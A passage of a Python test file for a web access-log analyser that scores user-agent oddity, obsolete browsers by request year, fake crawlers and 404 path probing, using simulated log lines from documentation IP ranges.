    assert found["203.0.113.130"].rules == ["fake_crawler"] and not found["203.0.113.130"].flagged


def test_two_weak_signals_stay_under_the_threshold():
    """The calibration rules.yaml states: a weak signal scores < 0.3, and any two of them stay under the threshold."""
    rules = load_rules()
    weak = {name: p["score"] for name, p in rules.data["rules"].items() if p["score"] < 0.3}
    weak |= {"bad_user_agent (absent)": rules.rule("bad_user_agent")["absent_score"]}
    assert {"fake_browser", "volume", "bad_user_agent (absent)"} <= set(weak)
    top = sorted(weak.values())[-2:]
    assert 1 - (1 - top[0]) * (1 - top[1]) < rules.threshold


@pytest.mark.parametrize(
    ("agent", "oddity"),
    [
        (CHROME, 0),
        (FIREFOX, 0),
        (SAFARI, 0),
        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", 1),
        ("Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1", 1),
        ("Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 2),
        ("Mozilla/5.0", 2),
        ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1) Chrome/99.0", 2),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 0),
        ("curl/8.5.0", 0),
    ],
)
def test_user_agent_oddity(agent, oddity):
    assert agent_oddity(agent) == oddity


IE8_XP = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727)"


@pytest.mark.parametrize(
    ("agent", "year", "oddity"),
    [
        (IE8_XP, 2014, 0),  # a person in 2014: XP and IE 8 were everywhere
        (IE8_XP, 2025, 1),
        ("Mozilla/5.0 (Windows NT 6.1; rv:24.0) Gecko/20100101 Firefox/24.0", 2014, 0),
        ("Mozilla/5.0 (Windows NT 6.1; rv:24.0) Gecko/20100101 Firefox/24.0", 2024, 1),
        ("Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1", 2015, 0),
        ("Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1", 2018, 1),
        ("Mozilla/4.0 (compatible; MSIE 6.0; Windows 98)", 2015, 0),
        ("Mozilla/4.0 (compatible; MSIE 6.0; Windows 98)", 2016, 1),
        ("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16", 2014, 0),
        ("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16", 2025, 1),
        ("Opera/9.80 (Android; Opera Mini/7.6.40234/191.308; U; en) Presto/2.12.423 Version/12.16", 2025, 0),
        # impossible in any year
        ("Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 2014, 2),
    ],
)
def test_an_agent_is_obsolete_by_the_year_of_the_request(agent, year, oddity):
    assert agent_oddity(agent, year) == oddity


def test_a_log_of_2014_does_not_flag_its_readers_on_xp_but_one_of_2025_does():
    """The same reader, on Windows XP with Internet Explorer 8 (a quarter of the web's desktops in 2014), reading
    three pages with their assets: not obsolete in a log of 2014, obsolete for a decade in one of 2025."""

    def reader(day):
        stamp = f"{day}:10:00:{{:02d}} +0000"
        lines = []
        for i, page in enumerate(("/", "/posts/hello-world/", "/about/")):
            ref = f"{SITE}/" if i else "-"
            lines += [f'198.51.100.77 - - [{stamp.format(i * 9)}] "GET {page} HTTP/1.1" 200 512 "{ref}" "{IE8_XP}"',
                      f'198.51.100.77 - - [{stamp.format(i * 9 + 1)}] "GET /static/site.css HTTP/1.1" 200 512 '
                      f'"{SITE}{page}" "{IE8_XP}"']  # fmt: skip
        return lines

    rules = load_rules()
    for day, expected in (("03/Mar/2014", set()), ("03/Mar/2025", {"obsolete_agent"})):
        agg = Aggregator(rules)
        agg.add_records(records(reader(day)))
        found = by_ip(judge(agg, rules)).get("198.51.100.77")
        assert (set(found.rules) if found else set()) == expected, day


def test_a_crawler_asking_for_the_pages_of_a_site_that_moved_is_no_prober():
    """A site moved its blog: an SEO crawler (declared, with a contact URL; its networks unpublished) still asks
    for the old posts, most answered 404. Not a prober. The same requests under a browser's name are."""
    ahrefs = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
    old = [f"GET /2016/{m:02d}/an-old-post-{m}/ HTTP/1.1" for m in range(1, 13)]

    def visit(ip, agent):
        return (
            [line(ip, "GET /robots.txt HTTP/1.1", agent=agent)]
            + [line(ip, request, 404, agent=agent, second=20 * i) for i, request in enumerate(old)]
            + [line(ip, "GET /posts/hello-world/ HTTP/1.1", agent=agent, second=300)]
        )

    found = verdicts(
        visit("203.0.113.150", ahrefs) + visit("203.0.113.151", CHROME) + visit("203.0.113.152", GOOGLEBOT)
    )
    assert "203.0.113.150" not in found  # no rule tripped at all
    assert "not_found_probe" in found["203.0.113.151"].rules and found["203.0.113.151"].flagged
    # a "Googlebot" from outside Google's networks brute-forcing paths is a fake doing it
    assert {"not_found_probe", "fake_crawler"} <= set(found["203.0.113.152"].rules) and found["203.0.113.152"].flagged
